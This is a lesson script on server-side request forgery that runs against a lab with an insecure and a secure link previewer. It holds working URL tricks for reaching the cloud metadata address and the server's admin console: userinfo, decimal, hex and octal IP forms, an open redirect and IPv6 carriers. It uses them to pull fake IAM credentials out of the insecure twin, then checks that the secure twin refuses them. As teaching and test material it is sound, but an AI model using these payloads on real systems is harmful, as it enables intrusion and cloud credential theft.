"""Lesson "API security", section 5: server-side request forgery.

Save the lab's CA as safelab-ca.pem next to this script, then run:  python preview.py
It gets the insecure previewer past its checks to the fake metadata service
and the server's admin console, steals the fake credentials, and sends the
secure previewer the same URLs.
"""

import json
import sys

import requests

HTTP = "{{http}}"
HTTPS = "{{https}}"
CA = "safelab-ca.pem"
CREDENTIALS = "/latest/meta-data/iam/security-credentials/"
TRICKS = [
    "http://news.example@169.254.169.254" + CREDENTIALS,  # userinfo
    "http://2852039166" + CREDENTIALS,  # one decimal number
    "http://0xA9FEA9FE" + CREDENTIALS,  # hexadecimal
    "http://0251.0376.0251.0376" + CREDENTIALS,  # octal
    "http://news.example/redirect?to=http://169.254.169.254" + CREDENTIALS,  # open redirect
    "http://news.example@0/",  # 0.0.0.0, the server itself: its admin console
]


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


def preview(base: str, twin: str, url: str, **options) -> requests.Response:
    return requests.get(f"{base}/lab/{twin}/preview", params={"url": url}, timeout=10, **options)


def main() -> None:
    public = preview(HTTP, "insecure", "http://news.example/").json()
    print("a public page:", public["title"])
    direct = preview(HTTP, "insecure", "http://169.254.169.254" + CREDENTIALS)
    check(direct.status_code == 403, f"the plain address answered {direct.status_code}")

    for url in TRICKS:
        answer = preview(HTTP, "insecure", url)
        check(answer.status_code == 200, f"{url} answered {answer.status_code}: {answer.text}")
        print("insecure reached", answer.json()["address"], "with", url)

    # ssrf-metadata: the role's name, then its credentials.
    role = preview(HTTP, "insecure", TRICKS[0]).json()["excerpt"].strip()
    leaked = preview(HTTP, "insecure", TRICKS[0] + role).json()
    credentials = json.loads(leaked["excerpt"])
    check(credentials["AccessKeyId"].startswith("ASIAFAKE"), f"credentials: {credentials}")
    print("ssrf-metadata:", credentials["AccessKeyId"], credentials["SecretAccessKey"])

    # secure-refuses-ssrf: the same URLs, refused with a reason.
    # Also: a spelling of a URL that reached inside (the lab compares parsed
    # URLs), and IPv6 forms that carry the metadata address.
    respelled = TRICKS[0].replace("http://", "HTTP://").replace("169.254.169.254", "169.254.169.254:80")
    carriers = ["http://[64:ff9b::a9fe:a9fe]/", "http://[2002:a9fe:a9fe::]/", "http://[::169.254.169.254]/"]
    for url in TRICKS + [TRICKS[0] + role, respelled] + carriers:
        answer = preview(HTTPS, "secure", url, verify=CA)
        check(answer.status_code in (400, 403), f"the secure twin answered {url} with {answer.status_code}")
        check("excerpt" not in answer.json(), f"the secure twin fetched {url}")
        print("secure refused:", answer.status_code, answer.json()["error"])
    fine = preview(HTTPS, "secure", "http://news.example/articles/1", verify=CA)
    check(fine.status_code == 200, f"a public page answered {fine.status_code}")


if __name__ == "__main__":
    main()
